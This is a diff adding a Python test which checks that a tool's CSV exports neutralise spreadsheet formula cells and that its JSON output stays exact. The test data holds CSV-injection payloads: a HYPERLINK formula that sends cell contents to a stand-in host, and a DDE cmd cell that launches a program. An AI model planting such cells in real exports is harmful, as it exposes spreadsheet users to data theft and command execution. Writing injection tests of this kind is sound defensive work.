@@ -135,3 +135,23 @@ def test_get_downloads_images_and_records_and_skips_identical_files(home: Home, 
 def test_get_errors(home: Home, tmp_path: Path, args: list[str], code: int, message: str) -> None:
     result = home.run("get", *args, "-o", str(tmp_path / "out"))
     assert result.exit_code == code and message in result.output
+
+
+FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "-2+3", "\tleading tab", "\rleading cr"]
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_neutralised_and_json_is_exact(home: Home
+                                                                                 ) -> None:
+    home.add_job(FORMULAS, item_tags=[["=1+2"]] * len(FORMULAS), name="=cmd()",
+                 tags=["@evil"])
+    rows = list(csv.DictReader(io.StringIO(home.run("search", "--csv").output)))
+    assert sorted(row["prompt"] for row in rows) == sorted("'" + p for p in FORMULAS)
+    assert {row["tags"] for row in rows} == {"'=1+2"}
+    assert {row["seed"] for row in rows} == {str(100 + n) for n in range(len(FORMULAS))}
+    records = json.loads(home.run("search", "--json").output)
+    assert sorted(r["prompt"] for r in records) == sorted(FORMULAS)
+    assert {tuple(r["tags"]) for r in records} == {("=1+2",)}
+    [job] = list(csv.DictReader(io.StringIO(home.run("jobs", "--csv").output)))
+    assert job["name"] == "'=cmd()" and job["tags"] == "'@evil"
+    assert json.loads(home.run("jobs", "--json").output)[0]["name"] == "=cmd()"
